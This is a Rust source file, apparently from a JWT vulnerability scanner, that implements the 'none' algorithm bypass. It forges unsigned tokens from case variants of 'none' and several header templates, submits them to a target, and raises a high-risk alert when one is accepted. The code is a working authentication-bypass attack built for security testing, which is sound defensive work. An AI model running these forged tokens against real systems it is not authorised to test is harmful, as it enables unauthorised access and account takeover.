// "none" algorithm bypass
//
// Every spelling of "none" crossed with every header template, unsigned.

use async_trait::async_trait;
use serde_json::{json, Value};
use std::sync::Arc;
use tracing::{debug, warn};

use super::{AttackHelper, JwtAttack};
use crate::context::AttackContext;
use crate::messages::HEADER_PREFIX;
use crate::models::{Confidence, Risk, VulnerabilityType};
use crate::token::TokenModel;

pub const NONE_VARIANTS: &[&str] = &["none", "None", "NONE", "nOnE"];

pub struct HeaderAttack {
    helper: Arc<AttackHelper>,
}

impl HeaderAttack {
    pub fn new(helper: Arc<AttackHelper>) -> Self {
        Self { helper }
    }
}

/// Header texts declaring `alg`, deduplicated:
/// bare `{"alg":..}`, `{"typ":"JWT","alg":..}` and the original header with
/// only `alg` replaced.
pub fn header_variants(token: &TokenModel, alg: &str) -> Vec<String> {
    let mut variants = vec![
        json!({ "alg": alg }).to_string(),
        json!({ "typ": "JWT", "alg": alg }).to_string(),
    ];
    if let Ok(mut original) = token.header_json() {
        original.insert("alg".to_string(), Value::String(alg.to_string()));
        let rewritten = Value::Object(original).to_string();
        if !variants.contains(&rewritten) {
            variants.push(rewritten);
        }
    }
    variants
}

#[async_trait]
impl JwtAttack for HeaderAttack {
    fn name(&self) -> &'static str {
        "header"
    }

    async fn execute_attack(&self, ctx: &AttackContext) -> bool {
        for alg in NONE_VARIANTS {
            for header in header_variants(&ctx.token, alg) {
                if ctx.is_stopped() {
                    return false;
                }
                let mut forged = ctx.token.clone();
                forged.with_header(header).with_signature(Vec::new());
                let candidate = forged.encode();

                match self.helper.verify_token(&candidate, ctx).await {
                    Ok(true) => {
                        self.helper.raise_alert(
                            HEADER_PREFIX,
                            VulnerabilityType::NoneAlgorithm,
                            Risk::High,
                            Confidence::High,
                            &candidate,
                            ctx,
                            None,
                        );
                        return true;
                    }
                    Ok(false) => debug!("[JWT] alg {:?} rejected", alg),
                    Err(e) => {
                        warn!("[JWT] none algorithm attack aborted: {}", e);
                        return false;
                    }
                }
            }
        }
        false
    }
}
